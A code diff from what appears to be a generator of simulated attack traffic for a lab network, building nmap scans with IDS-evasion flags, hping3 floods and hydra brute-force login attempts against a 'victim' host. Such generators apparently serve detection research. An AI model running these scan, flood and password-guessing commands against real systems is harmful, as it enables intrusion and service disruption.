@@ -31,10 +31,15 @@ def scanned(plan: Plan, numbers: random.Random) -> list[str]:
     return numbers.choice(([str(plan.victim.address)], [str(plan.victim.address)], list(map(str, plan.addresses[:3]))))
 
 
+# Evasions that nmap has for a kind of scan.
+EXTRAS: dict[str, tuple[tuple[str, ...], ...]] = {
+    "-sS": ((), ("-f",), ("--data-length", "24"), ("-g", "53")), "-sU": ((), ("--data-length", "24"), ("-g", "53")), "-sT": ((),)}
+
+
 def scan(kind: str, fewest: int, most: int, *options: str) -> Activity:
     def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
         speed = numbers.choice((("-T3",), ("-T4",), ("-T5",), ("-T4", "--max-rate", "300"), ("-T4", "--min-rate", "1500")))
-        extra = numbers.choice(((), ("-f",), ("--data-length", "24"), ("-g", "53"))) if kind in ("-sS", "-sU") else ()
+        extra = numbers.choice(EXTRAS[kind])
         return [Command(numbers.uniform(0.2, 1), (*NMAP, kind, *speed, "--max-retries", "1", *options, *extra,
                                                   "-p", listed(some_ports(plan, numbers, fewest, most)), *scanned(plan, numbers)), 25)]
     return commands
@@ -68,7 +73,7 @@ def flood(*kind: str) -> Activity:
                 "-p", str(plan.services.web)) if tcp else ("-d", str(numbers.choice((0, 18, 64, 512, 1200))))
         target = ("-p", numbers.choice(("++1000", str(plan.services.names), "9"))) if "-2" in kind else ()
         interval = numbers.choice((30, 100, 300, 700))
-        count = min(plan.packets, 12_000_000 // interval)
+        count = min(plan.packets // 2, 12_000_000 // interval)  # half: answers count, too
         return [Command(0.2, ("hping3", "-q", "-n", "-I", "e0", *kind, *look, *target, "-i", f"u{interval}", "-c", str(count),
                               str(plan.victim.address)), 20)]
     return commands
@@ -85,11 +90,13 @@ def guess(service: str) -> Activity:
         ssh = service == "ssh"
         words = write_words(numbers.randrange(30, 80) if ssh else min(numbers.randrange(200, 600), plan.packets // 8), numbers)
         name = f"WORK/{host.name}.words"
+        # Without -w, hydra waits half a minute after sshd has closed a connection.
+        wait = ("-w", numbers.choice(("1", "2"))) if ssh else ()
         target = ("ssh",) if ssh else ("http-get", "/private/")
         port = plan.services.ssh if ssh else plan.services.web
         return [Command(0, ("sh", "-c", f"printf '%s\\n' {' '.join(words)} > {name}")),
                 Command(0.2, ("hydra", "-I", "-q", "-l", numbers.choice(("admin", "root", USER)), "-P", name, "-t", str(numbers.choice((2, 4, 8))),
-                              "-s", str(port), str(plan.victim.address), *target), 20)]
+                              *wait, "-s", str(port), str(plan.victim.address), *target), 20)]
     return commands
 
 
